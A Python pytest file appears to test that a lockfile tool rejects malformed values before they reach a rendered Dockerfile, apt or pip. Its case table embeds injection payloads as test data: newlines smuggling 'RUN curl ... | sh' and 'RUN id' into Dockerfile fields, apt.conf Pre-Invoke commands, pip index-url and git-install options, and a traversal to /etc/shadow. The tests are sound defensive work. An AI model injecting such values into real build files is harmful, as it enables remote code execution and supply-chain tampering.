"""A lock's values cannot reach a Dockerfile, apt or pip unchecked.

Every value a lock gives is held to its grammar when the lock is read: one
line naming the field, and nothing rendered from it.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from relock.errors import LockfileError
from relock.lock import lockfile
from tests.hostile.contract import GOOD, H, files_in, invoke, one_line_error


def test_the_good_lock_is_good() -> None:
    assert lockfile.loads(GOOD).apt[0].name == "bash"


# (finding of issue 12's review, case, old text, new text (TOML escapes as in a file),
# what the error names)
LOCK_CASES = [
    ("S1", "newline in a base digest", 'digest = "sha256:' + H + '"',
     'digest = "sha256:' + H + '\\nRUN curl -s http://127.0.0.1:9/x | sh"',
     "base[0].digest"),
    ("S1", "newline in a base image id", 'image_id = "sha256:' + "2" * 64 + '"',
     'image_id = "sha256:' + "2" * 64 + '\\nCOPY / /x"', "base[1].image_id"),
    ("S1", "newline in a base ref", 'ref = "debian:trixie-slim"',
     'ref = "debian:trixie-slim\\nRUN id"', "base[0].ref"),
    ("S2", "URI closes the apt.conf string", '"http://127.0.0.1:8/debian"',
     '"http://127.0.0.1:8/debian\\";\\nAPT::Update::Pre-Invoke {\\"id\\";};"',
     "apt_sources[0].uris[0]"),
    ("S2", "URI adds a trusted stanza", '"http://127.0.0.1:8/debian"',
     '"http://127.0.0.1:8/debian\\n\\nTypes: deb\\nURIs: http://127.0.0.1:9/\\nTrusted: yes"',
     "apt_sources[0].uris[0]"),
    ("S2", "option value with a newline",
     'signed-by = "/usr/share/keyrings/debian-archive-keyring.gpg"',
     'signed-by = "/k.gpg\\nTrusted: yes"', "apt_sources[0].options.signed-by"),
    ("S2", "option key with a newline", 'signed-by = "/usr/share',
     '"signed-by\\nTrusted" = "/usr/share', "apt_sources[0].options key"),
    ("S2", "suite with white space", '"trixie-updates"', '"trixie-updates main\\nx"',
     "apt_sources[0].suites[1]"),
    ("S2", "snapshot id with a newline", 'snapshot = "20261101T000000Z"',
     'snapshot = "20261101T000000Z\\nAcquire::x \\"y\\";"', "'snapshot'"),
    ("S2", "apt name with a newline", 'name = "bash"', 'name = "bash\\nPin: version *"',
     "apt[0].name"),
    ("S2", "apt version pinned to anything", 'version = "5.2.37-2+b5"',
     'version = "*"', "apt[0].version"),
    ("S3", "pip name with a newline", 'name = "six"',
     'name = "six\\n--index-url http://127.0.0.1:9/"', "pip[1].name"),
    ("S3", "pip version with a newline", 'version = "1.16.0"',
     'version = "1.16.0\\n--trusted-host 127.0.0.1"', "pip[1].version"),
    ("S3", "pip hash with a newline", '"sha256:' + "a" * 64 + '"',
     '"sha256:' + "a" * 64 + '\\n-e git+http://127.0.0.1:9/x"', "pip[1].hashes[0]"),
    ("S5", "credentials in an APT URI", '"http://127.0.0.1:8/debian"',
     '"http://user:secret@127.0.0.1:8/debian"', "has credentials"),
    ("B10", "empty apt version", 'version = "5.2.37-2+b5"', 'version = ""',
     "apt[0].version: is empty"),
    ("B10", "empty pip version", 'version = "3.10"', 'version = ""', "pip[0].version: is empty"),
    ("B10", "NUL in a version", 'version = "5.2.37-2+b5"', 'version = "5.2\\u0000"',
     "apt[0].version"),
    ("B10", "space in a version", 'version = "5.2.37-2+b5"', 'version = "5.2 37"',
     "apt[0].version"),
    ("B10", "space in a pip version", 'version = "3.10"', 'version = "3.10 "', "pip[0].version"),
    ("B10", "non-hex hash", '"sha256:' + "c" * 64 + '"', '"sha256:' + "z" * 64 + '"',
     "pip[0].hashes[0]"),
    ("B10", "md5 hash", '"sha256:' + "c" * 64 + '"', '"md5:' + "c" * 32 + '"',
     "pip[0].hashes[0]"),
    ("B10", "short hash", '"sha256:' + "c" * 64 + '"', '"sha256:cc"', "pip[0].hashes[0]"),
    ("B10", "non-hex deb hash", 'sha256 = "' + "3" * 64 + '"', 'sha256 = "xyz"',
     "apt[0].sha256"),
    ("B10", "duplicate apt package", '[[apt]]\nname = "zlib1g"', '[[apt]]\nname = "bash"',
     "apt[1] repeats apt[0]"),
    ("B10", "duplicate pip package", '[[pip]]\nname = "six"', '[[pip]]\nname = "idna"',
     "pip[1] repeats pip[0]"),
    ("", "pip name not normalised", 'name = "six"', 'name = "Six"', "pip[1].name"),
    ("", "pip name escaping the index folder", 'name = "six"', 'name = "%2e%2e/six"',
     "pip[1].name"),
    ("", "relative environment", 'env = "/opt/venv"\nrequested = true',
     'env = "../venv"\nrequested = true', "pip[1].env"),
    ("", "environment with a newline", 'prefix = "/opt/venv"', 'prefix = "/opt/venv\\nRUN id"',
     "python[0].prefix"),
    ("", "filename escaping the archive",
     'filename = "pool/main/b/bash/bash_5.2.37-2+b5_amd64.deb"',
     'filename = "pool/../../../etc/shadow"', "apt[0].filename"),
    ("", "stage with a newline", 'name = "bash"', 'name = "bash"\nstage = "a\\nb"',
     "apt[0].stage"),
    ("", "bad platform", 'platform = "linux/amd64"', 'platform = "linux/amd64\\nx"',
     "'platform'"),
    ("", "bad snapshot date", 'snapshot = "20261101T000000Z"', 'snapshot = "20261341T000000Z"',
     "'snapshot'"),
    ("", "build-arg name with a newline", 'PY = "3.13"', '"PY\\nRUN" = "3.13"',
     "[input].build_args key"),
    ("", "build-arg value with a newline", 'PY = "3.13"', 'PY = "3.13\\nRUN id"',
     "[input].build_args.PY"),
    ("", "template name with an escape sequence", 'dockerfile = "Dockerfile.in"',
     'dockerfile = "Dockerfile.in\\u001b[2J"', "[input].dockerfile"),
    ("", "distro id with a quote", 'id = "debian"', 'id = "debian\\""', "[distro].id"),
    ("", "negative stage", "stage = 0", "stage = -1", "base[0].stage"),
]


@pytest.mark.parametrize(("old", "new", "names"), [c[2:] for c in LOCK_CASES],
                         ids=[c[1] for c in LOCK_CASES])
def test_a_bad_lock_value_is_refused_naming_its_field(tmp_path: Path, old: str, new: str,
                                                      names: str) -> None:
    assert GOOD.count(old) >= 1
    bad = tmp_path / "bad.lock"
    bad.write_text(GOOD.replace(old, new, 1))
    good = tmp_path / "good.lock"
    good.write_text(GOOD)
    line = one_line_error(invoke("diff", str(good), str(bad)), f"{bad}: ", names)
    assert "\x1b" not in line


# Issue 12's review, S1-S3: the values that reach the rendered Dockerfile, apt or pip.
@pytest.mark.parametrize("case", [c[1] for c in LOCK_CASES if c[0] in ("S1", "S2", "S3")])
def test_render_writes_nothing_from_a_lock_value_that_would_inject(tmp_path: Path,
                                                                   case: str) -> None:
    _, _, old, new, names = next(c for c in LOCK_CASES if c[1] == case)
    bad = tmp_path / "bad.lock"
    bad.write_text(GOOD.replace(old, new, 1))
    (tmp_path / "Dockerfile.in").write_text("FROM debian:trixie-slim\n")
    out = tmp_path / "out"
    out.mkdir()
    r = invoke("render", "-f", str(tmp_path / "Dockerfile.in"), "--lock", str(bad),
               "-o", str(out / "Dockerfile"), "--force")
    one_line_error(r, names)
    assert files_in(out) == []


def test_a_bad_lock_at_a_git_revision_is_refused_naming_the_revision(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=tmp_path, check=True, capture_output=True)

    git("init", "-q")
    (tmp_path / "x.lock").write_text(GOOD.replace('name = "bash"', 'name = "bash\\nPin: *"'))
    git("add", "x.lock")
    git("-c", "user.name=t", "-c", "user.email=t@localhost", "commit", "-qm", "evil")
    (tmp_path / "x.lock").write_text(GOOD)
    monkeypatch.chdir(tmp_path)
    one_line_error(invoke("diff", "HEAD:x.lock", "x.lock"), "HEAD:x.lock", "apt[0].name")


# Issue 12's review: S7.
def test_reader_error_on_an_unknown_key_is_escaped(tmp_path: Path) -> None:
    bad = tmp_path / "x.lock"
    bad.write_text(GOOD.replace("version = 1", 'version = 1\n"k\\u001b[2J" = 1'))
    with pytest.raises(LockfileError) as e:
        lockfile.read(bad)
    assert "\x1b" not in str(e.value)
